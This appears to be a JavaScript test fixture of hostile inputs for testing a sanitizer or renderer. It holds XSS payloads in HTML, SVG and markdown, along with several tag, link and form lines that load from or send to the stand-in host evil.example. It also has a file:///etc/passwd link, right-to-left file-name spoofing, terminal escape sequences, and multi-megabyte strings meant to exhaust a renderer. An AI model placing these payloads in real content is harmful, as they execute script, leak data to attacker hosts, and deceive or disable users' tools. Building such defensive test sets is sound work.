// What a hostile model, tool or stranger might write. Every script sets `pwned`; every address is at evil.example.
const PWN = 'globalThis.pwned=1';
const BAD = 'http://evil.example';

const markup = [
  `<script>${PWN}</script>`,
  `<script src="${BAD}/x.js"></script>`,
  `<ScRiPt>${PWN}</sCrIpT>`,
  `"><script>${PWN}</script>`,
  `'"--></style></script><script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="${BAD}/x.png">`,
  `<img srcset="${BAD}/x.png 2x">`,
  `<body onload="${PWN}">`,
  `<input autofocus onfocus="${PWN}">`,
  `<details open ontoggle="${PWN}">`,
  `<video><source onerror="${PWN}"></video>`,
  `<audio src="${BAD}/x.mp3" autoplay></audio>`,
  `<iframe src="javascript:${PWN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
  `<object data="${BAD}/x.swf"></object>`,
  `<embed src="data:text/html,<script>${PWN}</script>">`,
  `<link rel="stylesheet" href="${BAD}/x.css">`,
  `<style>@import url(${BAD}/x.css);*{display:none}</style>`,
  `<div style="background:url(${BAD}/x.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=${BAD}">`,
  `<base href="${BAD}/">`,
  `<form action="${BAD}"><button autofocus>Send answer</button></form>`,
  `<a href="javascript:${PWN}">x</a>`,
  `<math><mi xlink:href="data:x,<script>${PWN}</script>"></mi></math>`,
  `<template><script>${PWN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<marquee onstart="${PWN}">x</marquee>`,
  `{{constructor.constructor('${PWN}')()}}`,
  `\${${PWN}}`,
];

const svg = [
  `<svg onload="${PWN}">`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><script href="data:text/javascript,${PWN}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${PWN}"></foreignObject></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName=x dur=1s>`,
  `<svg><use href="${BAD}/x.svg#x"/></svg>`,
];

const markdown = [
  `[click](javascript:${PWN})`,
  `[click](JaVaScRiPt:${PWN})`,
  `[click](data:text/html,<script>${PWN}</script>)`,
  `[click](vbscript:${PWN})`,
  `[click](file:///etc/passwd)`,
  `![x](${BAD}/x.png)`,
  `![x](javascript:${PWN})`,
  `[![x](${BAD}/x.png)](${BAD}/y)`,
  `[x]: javascript:${PWN}\n\n[x]`,
  `<javascript:${PWN}>`,
  `# <img src=x onerror="${PWN}">\n\n**<script>${PWN}</script>**`,
  `| a |\n|---|\n| <img src="${BAD}/t.png" onerror="${PWN}"> |\n| ![y](${BAD}/y.png) |`,
  `\`\`\`html\n<script>${PWN}</script>\n\`\`\``,
  `- [ ] <input autofocus onfocus="${PWN}">\n> <iframe src="${BAD}">`,
  `${'*'.repeat(3_000)}a${'_'.repeat(3_000)}`,
  `${'['.repeat(3_000)}x${'](http://'.repeat(800)}`,
];

const characters = [
  'invoice\u202efdp.exe',
  '\u2066left\u2069 \u2067right\u2069 \u061c\u200e\u200f',
  'zero\u200bwidth\u200cnon\u200djoiner\ufeff',
  '\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[H\r\u0007\b\u0000',
  '\u{e0041}\u{e0042}\u{e007f} hidden tags',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(60),
  '\ud800 lone',
];

const sizes = [
  `<img src=x onerror="${PWN}">`.repeat(180_000).slice(0, 5_000_000),
  'w'.repeat(5_000_000),
  '\u202e\u200b'.repeat(40_000),
  'line\n'.repeat(200_000),
  `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
  `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
];

/** Short enough to stand anywhere. */
export const SHORT = [...markup, ...svg, ...markdown, ...characters];
/** Up to 5 MB, and 50,000 deep. */
export const LONG_ONES = sizes;
